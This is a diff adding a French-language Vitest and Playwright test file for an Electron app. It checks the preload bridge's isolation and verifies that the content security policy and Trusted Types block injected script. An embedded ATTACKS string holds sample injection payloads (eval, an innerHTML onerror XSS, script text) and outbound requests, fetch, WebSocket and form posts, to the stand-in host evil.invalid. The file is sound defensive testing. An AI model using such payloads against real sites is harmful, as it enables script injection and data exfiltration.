@@ -1,0 +1,195 @@
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { chromium, type Browser } from 'playwright-core'
+import { build } from 'vite'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { openPreloadRig, type PreloadRig } from './preload-rig/open-rig.ts'
+
+const ROOT = join(import.meta.dirname, '..')
+const CHROMIUM = process.env['GUICHET_CHROMIUM'] ?? '/usr/bin/chromium'
+
+/** Tries what an injected content would; each name is the directive that must stop it. */
+const ATTACKS = `
+const attempts = {
+  'eval': () => eval('1'),
+  'innerHTML': () => { document.body.innerHTML = '<img src=x onerror=alert(1)>' },
+  'script.text': () => { document.createElement('script').text = 'window.injected = 1' },
+  'policy': () => { trustedTypes.createPolicy('evil', {}) },
+}
+window.thrown = Object.fromEntries(Object.entries(attempts).map(([name, attempt]) => {
+  try { attempt(); return [name, 'passed'] } catch (error) { return [name, error.name] }
+}))
+window.violations = []
+document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.effectiveDirective))
+const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes))
+window.attack = async () => {
+  add('img', { src: 'https://evil.invalid/a.png' })
+  add('iframe', { src: 'https://evil.invalid/' })
+  add('link', { rel: 'stylesheet', href: 'https://evil.invalid/a.css' })
+  add('style', { textContent: 'body { color: red }' })
+  document.body.setAttribute('style', 'background: url(https://evil.invalid/b.png)')
+  await fetch('https://evil.invalid/').catch(() => undefined)
+  try { new WebSocket('wss://evil.invalid/') } catch {}
+  const form = Object.assign(document.createElement('form'), { action: 'https://evil.invalid/' })
+  document.body.append(form)
+  form.submit()
+}
+`
+
+let browser: Browser
+let folder: string
+let preload: string
+let rig: PreloadRig
+
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'guichet-rig-'))
+  await build({
+    configFile: join(ROOT, 'electron/vite.config.ts'),
+    logLevel: 'warn',
+    build: { outDir: join(folder, 'electron') },
+  })
+  preload = await readFile(join(folder, 'electron', 'preload.cjs'), 'utf8')
+  await build({
+    configFile: false,
+    root: ROOT,
+    logLevel: 'warn',
+    build: {
+      outDir: join(folder, 'screens'),
+      emptyOutDir: true,
+      target: 'esnext',
+      lib: {
+        entry: join(import.meta.dirname, 'preload-rig/page.ts'),
+        formats: ['es'],
+        fileName: () => 'page.js',
+      },
+    },
+  })
+  await writeFile(join(folder, 'screens', 'attacks.js'), ATTACKS)
+  const scripts = ['page.js', 'attacks.js'].map((name) => `<script type="module" src="/${name}"></script>`)
+  await writeFile(join(folder, 'screens', 'index.html'), `<!doctype html><body>${scripts.join('')}</body>`)
+  browser = await chromium.launch({
+    executablePath: CHROMIUM,
+    args: [
+      '--no-sandbox',
+      '--disable-background-networking',
+      '--disable-component-update',
+      '--disable-sync',
+      '--no-first-run',
+    ],
+  })
+})
+afterAll(async () => {
+  await browser.close()
+  await rm(folder, { recursive: true })
+})
+beforeEach(async () => {
+  rig = await openPreloadRig(browser, join(folder, 'screens'), preload)
+  await rig.page.waitForFunction(() => 'essai' in window && 'thrown' in window)
+})
+afterEach(() => rig.close())
+
+describe('préchargement construit, dans un monde isolé de Chromium', () => {
+  it('ne demande rien d’autre qu’Electron, et tient en un fichier', async () => {
+    const required = [...preload.matchAll(/require\(["'](.*?)["']\)/g)].map(([, name]) => name)
+    expect(required).toEqual(['electron'])
+  })
+
+  it('n’expose qu’une fonction, sur un objet gelé', async () => {
+    const seen = await rig.page.evaluate(() => {
+      const api = (window as unknown as { guichet: Record<string, unknown> }).guichet
+      return { keys: Object.keys(api), kind: typeof api['connect'], frozen: Object.isFrozen(api) }
+    })
+    expect(seen).toEqual({ keys: ['connect'], kind: 'function', frozen: true })
+  })
+
+  it('laisse la page sans Node ni Electron', async () => {
+    const names = [
+      'require',
+      'process',
+      'module',
+      'Buffer',
+      'global',
+      'electron',
+      'ipcRenderer',
+      'rig',
+      'rigToNode',
+    ]
+    const seen = await rig.page.evaluate((names) => names.filter((name) => name in window), names)
+    expect(seen).toEqual([])
+  })
+
+  it('relie la page au poste par un port : appel, trois cents kilo-octets, signal', async () => {
+    const { page } = rig
+    expect(await page.evaluate(() => window.essai.client.ping('é😀'))).toBe('é😀')
+    expect(await page.evaluate(() => window.essai.inverser(300_000))).toBe(true)
+    await page.waitForFunction(() => window.essai.rangs.length === 5)
+    expect(await page.evaluate(() => window.essai.rangs)).toEqual([1, 2, 3, 4, 5])
+  })
+
+  it('le poste mort se voit à l’écran ; revenu, appels et signaux reprennent', async () => {
+    const { page } = rig
+    rig.die()
+    await page.waitForFunction(() => window.essai.etats.at(-1) === 'perdu')
+    const refused = await page.evaluate(() =>
+      window.essai.client.ping('x').catch((error: Error) => error.name),
+    )
+    expect(refused).toBe('LiaisonPerdue')
+    await page.evaluate(() => void (window.essai.rangs.length = 0))
+    rig.revive()
+    await page.waitForFunction(() => window.essai.rangs.length === 5)
+    expect(await page.evaluate(() => window.essai.etats)).toEqual(['connecte', 'perdu', 'connecte'])
+    expect(await page.evaluate(() => window.essai.client.ping('revenu'))).toBe('revenu')
+  })
+})
+
+describe('politique de contenu du véritable app://guichet, appliquée par Chromium', () => {
+  it('Trusted Types et CSP arrêtent le script injecté', async () => {
+    expect(await rig.page.evaluate(() => (window as unknown as { thrown: unknown }).thrown)).toEqual({
+      eval: 'EvalError',
+      innerHTML: 'TypeError',
+      'script.text': 'TypeError',
+      policy: 'TypeError',
+    })
+  })
+
+  it('rien ne sort : image, cadre, style, requête, liaison, formulaire', async () => {
+    const stopped = await rig.page.evaluate(async () => {
+      const attacked = window as unknown as { attack(): Promise<void>; violations: string[] }
+      await attacked.attack()
+      await new Promise((resolve) => setTimeout(resolve, 200))
+      return [...new Set(attacked.violations)].sort()
+    })
+    expect(stopped).toEqual([
+      'connect-src',
+      'form-action',
+      'frame-src',
+      'img-src',
+      'require-trusted-types-for',
+      'style-src-attr',
+      'style-src-elem',
+      'trusted-types',
+    ])
+    expect(rig.outside).toEqual([])
+  })
+})
+
+describe('écrans construits', () => {
+  it('se chargent sous cette politique sans une seule violation', async () => {
+    const screens = join(folder, 'desk')
+    await build({
+      configFile: join(ROOT, 'renderer/vite.config.ts'),
+      logLevel: 'warn',
+      build: { outDir: screens, emptyOutDir: true },
+    })
+    const desk = await openPreloadRig(browser, screens, preload)
+    const complaints: string[] = []
+    desk.page.on('console', (message) => {
+      if (/Content Security Policy|Trusted/.test(message.text())) complaints.push(message.text())
+    })
+    await desk.page.reload()
+    await desk.page.locator('#ecran > *').first().waitFor()
+    expect([complaints, desk.outside]).toEqual([[], []])
+    await desk.close()
+  })
+})
